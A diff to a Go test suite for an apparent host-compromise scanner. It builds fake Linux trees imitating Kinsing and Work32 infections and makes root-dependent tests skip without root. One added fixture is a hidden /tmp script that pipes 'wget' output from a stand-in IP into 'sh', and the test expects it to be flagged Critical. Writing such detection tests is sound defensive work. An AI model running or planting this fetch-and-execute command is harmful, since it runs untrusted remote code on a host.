@@ -16,19 +16,16 @@ import (
 	"github.com/google/go-cmp/cmp"
 )
 
-// build writes tree into a fresh directory. Where the file system or the
-// privileges refuse an entry's chattr +i or xattr, the tree is written
-// without them and the test runs on: only assertions about them skip
-// (checkWant drops immutable wants; needFlags skips, or fails under
-// ABUSEKIT_REQUIRE_ROOT=1).
+// build writes tree into a fresh directory. Trees asking for chattr +i
+// need root and a file system with inode flags; without them the test
+// is skipped with the reason, unless allowNoFlags drops the flags.
 func build(t *testing.T, tree hosttest.Tree) string {
 	t.Helper()
 	dir := t.TempDir()
 	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
 	err := hosttest.Write(dir, tree)
 	if errors.Is(err, hosttest.ErrUnsupported) {
-		dropFlags(t, dir, err)
-		err = nil
+		t.Skipf("fixture needs chattr/xattrs: %v", err)
 	}
 	if err != nil {
 		t.Fatal(err)
@@ -87,13 +84,7 @@ type want struct {
 
 func checkWant(t *testing.T, fs []Finding, wants []want) {
 	t.Helper()
-	if flagsDropped(t) {
-		defer needFlags(t) // after the other assertions
-	}
 	for _, w := range wants {
-		if w.kind == KindImmutable && flagsDropped(t) {
-			continue
-		}
 		found := false
 		for _, f := range fs {
 			if f.Path == w.path && f.Line == w.line {
@@ -126,6 +117,9 @@ func dump(fs []Finding) string {
 }
 
 func TestFindWork32(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: the fixture's crontab is chattr +i")
+	}
 	for name, base := range map[string]hosttest.Tree{"debian12": hosttest.Debian12(), "ubuntu2204": hosttest.Ubuntu2204(), "amazonlinux2023": hosttest.AmazonLinux2023()} {
 		t.Run(name, func(t *testing.T) {
 			user := map[string]string{"debian12": "/home/admin", "ubuntu2204": "/home/ubuntu", "amazonlinux2023": "/home/ec2-user"}[name]
@@ -169,6 +163,9 @@ func mustRead(t *testing.T, dir, p string) string {
 }
 
 func TestFindKinsing(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: the fixture's authorized_keys2 is chattr +i")
+	}
 	dir := build(t, hosttest.Kinsing(hosttest.Debian12()))
 	fs := find(t, dir, time.Time{})
 	passwdLine := strings.Count(mustRead(t, dir, "/etc/passwd"), "\n")
@@ -263,6 +260,7 @@ func TestFindTempDrops(t *testing.T) {
 	dir := build(t, hosttest.Debian12().With(
 		hosttest.Entry{Path: "/tmp/build/tool", Data: hosttest.FakeELF("tool"), Mode: 0o755},
 		hosttest.Entry{Path: "/tmp/.cache/.x/run.sh", Data: "#!/bin/sh\necho\n", Mode: 0o700},
+		hosttest.Entry{Path: "/tmp/.cache/.x/get.sh", Data: "#!/bin/sh\nwget -q -O- http://203.0.113.7/g | sh\n", Mode: 0o700},
 		hosttest.Entry{Path: "/tmp/.cache/notes.txt", Data: "plain text"},
 		hosttest.Entry{Path: "/tmp/readme.sh", Data: "#!/bin/sh\n", Mode: 0o644},
 		hosttest.Entry{Path: "/var/tmp/.sys/m", Data: hosttest.FakeELF("miner"), Mode: 0o755},
@@ -276,7 +274,8 @@ func TestFindTempDrops(t *testing.T) {
 			got[f.Path] = f.Severity
 		}
 	}
-	want := map[string]Severity{"/tmp/build/tool": Medium, "/tmp/.cache/.x/run.sh": High, "/var/tmp/.sys/m": Critical}
+	// A hidden script is judged by its lines: a harmless one is medium.
+	want := map[string]Severity{"/tmp/build/tool": Medium, "/tmp/.cache/.x/run.sh": Medium, "/tmp/.cache/.x/get.sh": Critical, "/var/tmp/.sys/m": Critical}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("(-want +got):\n%s", diff)
 	}
@@ -317,6 +316,9 @@ func TestFindNeverOpensSpecialFiles(t *testing.T) {
 // medium at most, and a file's only key gets no action (it may be the
 // operator's launch key; see judge_test.go).
 func TestFindKeysCorrelatedWithoutSince(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: the fixture's crontab is chattr +i")
+	}
 	dir := build(t, hosttest.Work32(hosttest.Debian12(), "/home/admin"))
 	fs := find(t, dir, time.Time{})
 	checkWant(t, fs, []want{{"/root/.ssh/authorized_keys", 1, KindSSHKey, Medium, ActionNone}})
